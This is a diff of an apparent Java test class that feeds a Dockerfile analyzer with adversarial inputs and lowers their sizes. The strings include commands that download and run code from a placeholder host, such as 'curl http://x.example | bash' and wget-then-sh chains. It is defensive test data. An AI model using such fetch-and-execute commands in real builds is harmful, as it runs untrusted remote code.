@@ -38,7 +38,7 @@ class HostileDockerfileTest {
         files.put("10,000 nested substitutions", "RUN echo " + "$(".repeat(10_000) + "x" + ")".repeat(10_000));
         files.put(
                 "nested as deep as they are read",
-                "RUN " + ("echo " + "$(".repeat(95) + FETCH + ")".repeat(95) + ";").repeat(500));
+                "RUN " + ("echo " + "$(".repeat(95) + FETCH + ")".repeat(95) + ";").repeat(100));
         files.put(
                 "functions that call each other",
                 "RUN f0() { " + FETCH + "}; " + many(22, "g#() { f#; f#; f#; f#; }; f#b() { :; }; ")
@@ -61,24 +61,24 @@ class HostileDockerfileTest {
                 "branches in branches",
                 "RUN " + "if a; then x=$x$y; ".repeat(90) + FETCH + "else y=1; fi; ".repeat(90));
         files.put(
-                "a case of 100,000 arms",
-                "RUN case x in " + many(100_000, "#) a#=1 x=$x$a#;; ") + "esac; wget http://$x/");
+                "a case of 20,000 arms",
+                "RUN case x in " + many(20_000, "#) a#=1 x=$x$a#;; ") + "esac; wget http://$x/");
         files.put(
                 "a variable that is doubled",
                 ("RUN x=aaaaaaaaaaaaaaaa; " + "x=\"$x$x\"; ".repeat(40) + "wget \"http://$x\"; sh -c \"$x\"\n")
-                        .repeat(500));
+                        .repeat(100));
         files.put(
                 "a script in a script",
                 "RUN x='sh -c \"$x\"'; export x; eval \"$x\"; "
-                        + "eval 'eval eval curl http://x.example';".repeat(20_000));
+                        + "eval 'eval eval curl http://x.example';".repeat(5_000));
         files.put(
                 "a script that is read again by what it starts",
                 "RUN bash <<E\n" + "curl http://x.example | bash\n".repeat(40) + "E");
-        files.put("a long pipe", "RUN curl http://x.example " + "| cat ".repeat(100_000) + "| sh");
-        files.put("many instructions", "RUN wget http://x.example/a.tgz && tar xf a.tgz\n".repeat(20_000));
+        files.put("a long pipe", "RUN curl http://x.example " + "| cat ".repeat(20_000) + "| sh");
+        files.put("many instructions", "RUN wget http://x.example/a.tgz && tar xf a.tgz\n".repeat(5_000));
         files.put(
                 "many stages",
-                IntStream.range(1, 5_000)
+                IntStream.range(1, 2_000)
                         .mapToObj(i -> "FROM s" + (i - 1) + " AS s" + i + "\nENV A" + i + "=$A" + (i - 1)
                                 + "\nRUN wget http://x.example/" + i + "\n")
                         .collect(Collectors.joining()));
@@ -89,10 +89,10 @@ class HostileDockerfileTest {
         files.put(
                 "all against all",
                 "RUN case x in " + many(45, "#) a=v#;; ") + "esac; "
-                        + "wget http://$a/$a.tgz -O $a.tgz; tar xf $a.tgz; ".repeat(5_000));
+                        + "wget http://$a/$a.tgz -O $a.tgz; tar xf $a.tgz; ".repeat(1_000));
         files.put(
                 "one long word list",
-                "RUN a=\"" + "x ".repeat(1_000_000)
+                "RUN a=\"" + "x ".repeat(200_000)
                         + "\"; for k in $a; do wget $a; done; set -- $a; set -- \"$@\" \"$@\"; curl \"$@\"");
         files.put("quotes that do not end", "RUN curl http://x " + "\"'`${".repeat(20_000));
         return files;
